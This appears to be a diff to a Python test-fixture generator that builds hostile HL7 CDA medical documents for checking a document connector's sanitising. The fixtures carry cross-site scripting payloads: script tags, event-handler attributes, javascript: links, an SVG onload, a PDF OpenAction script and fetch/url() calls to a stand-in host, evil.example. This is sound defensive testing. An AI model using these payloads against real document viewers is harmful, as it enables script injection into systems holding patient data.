@@ -12,6 +12,8 @@ from pathlib import Path
 
 from lxml import etree
 
+from dmp_connector.xml import parse_xml
+
 EXAMPLES = Path(__file__).resolve().parents[3] / "shared" / "cda-2025" / "ExemplesCDA"
 BASE = EXAMPLES / "VSM_1.4_2022.01.xml"
 V3 = "urn:hl7-org:v3"
@@ -21,17 +23,20 @@ PWN = "window.__pwned=1;fetch('https://evil.example/x')"
 PNG = base64.b64decode(
     "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg=="
 )
+SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1"><script>window.__pwned=1</script></svg>'
 PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n%%EOF\n"
 
 NARRATIVE = f"""<text xmlns="{V3}" xmlns:x="http://www.w3.org/1999/xhtml">
- <paragraph onclick="{PWN}" styleCode="Bold onload=x" ID='p1" onmouseover="window.__pwned=1'>Texte visible un</paragraph>
+ <paragraph onclick="{PWN}" styleCode="Bold onload=x"
+  ID='p1" onmouseover="window.__pwned=1'>Texte visible un</paragraph>
  <x:script>window.__pwned=1</x:script>
  <script>window.__pwned=1</script>
  <x:img src="https://evil.example/a.png" onerror="{PWN}"/>
  <x:iframe src="javascript:{PWN}"/>
  <x:style>body{{background:url(https://evil.example/b.png)}}</x:style>
  <x:a href="javascript:{PWN}">Ancre XHTML</x:a>
- <content styleCode="Italics" onmouseover="{PWN}">Texte visible deux &lt;script&gt;window.__pwned=1&lt;/script&gt;</content>
+ <content styleCode="Italics" onmouseover="{PWN}"
+  >Texte visible deux &lt;script&gt;window.__pwned=1&lt;/script&gt;</content>
  <table onmouseover="{PWN}" border="1" style="background:url(https://evil.example/c.png)">
   <tbody><tr><td onclick="{PWN}" colspan="2&quot; onclick=&quot;x">Cellule visible</td></tr></tbody>
  </table>
@@ -73,7 +78,7 @@ ENTRIES = [
     _media(
         "m-svg",
         '<value mediaType="image/svg+xml" representation="B64">'
-        + _b64(b'<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1"><script>window.__pwned=1</script></svg>')
+        + _b64(SVG)
         + "</value>",
     ),
     _media(
@@ -96,8 +101,11 @@ ENTRIES = [
 
 
 def _base() -> etree._ElementTree:
-    parser = etree.XMLParser(resolve_entities=False, no_network=True)
-    return etree.parse(str(BASE), parser)
+    return parse_xml(BASE.read_bytes()).getroottree()
+
+
+def _xml(text: str) -> etree._Element:
+    return parse_xml(text.encode("utf-8"))
 
 
 def _bytes(tree: etree._ElementTree) -> bytes:
@@ -111,12 +119,12 @@ def narrative_injection() -> bytes:
     assert section is not None
     old = section.find("h:text", NS)
     assert old is not None
-    new = etree.fromstring(NARRATIVE)
+    new = _xml(NARRATIVE)
     old.addnext(new)
     section.remove(old)
     anchor = new
     for entry in ENTRIES:
-        element = etree.fromstring(entry)
+        element = _xml(entry)
         anchor.addnext(element)
         anchor = element
     return _bytes(tree)
@@ -150,7 +158,7 @@ def _non_xml(text: str) -> bytes:
     assert component is not None
     for child in list(component):
         component.remove(child)
-    component.append(etree.fromstring(f'<nonXMLBody xmlns="{V3}">{text}</nonXMLBody>'))
+    component.append(_xml(f'<nonXMLBody xmlns="{V3}">{text}</nonXMLBody>'))
     return _bytes(tree)
 
 
@@ -161,7 +169,8 @@ def pdf_body() -> bytes:
 
 def html_body() -> bytes:
     """A level-1 document claiming text/html: never rendered."""
-    return _non_xml(f'<text mediaType="text/html" representation="B64">{_b64(b"<script>window.__pwned=1</script>")}</text>')
+    script = _b64(b"<script>window.__pwned=1</script>")
+    return _non_xml(f'<text mediaType="text/html" representation="B64">{script}</text>')
 
 
 def referenced_body() -> bytes:
@@ -176,11 +185,9 @@ def huge_table(rows: int = 2000, columns: int = 8) -> bytes:
     assert section is not None
     old = section.find("h:text", NS)
     assert old is not None
-    body = "".join(
-        "<tr>" + "".join(f"<td>L{r}C{c}</td>" for c in range(columns)) + "</tr>" for r in range(rows)
-    )
+    body = "".join("<tr>" + "".join(f"<td>L{r}C{c}</td>" for c in range(columns)) + "</tr>" for r in range(rows))
     head = "<tr>" + "".join(f"<th>Colonne {c}</th>" for c in range(columns)) + "</tr>"
-    new = etree.fromstring(f'<text xmlns="{V3}"><table><thead>{head}</thead><tbody>{body}</tbody></table></text>')
+    new = _xml(f'<text xmlns="{V3}"><table><thead>{head}</thead><tbody>{body}</tbody></table></text>')
     old.addnext(new)
     section.remove(old)
     return _bytes(tree)
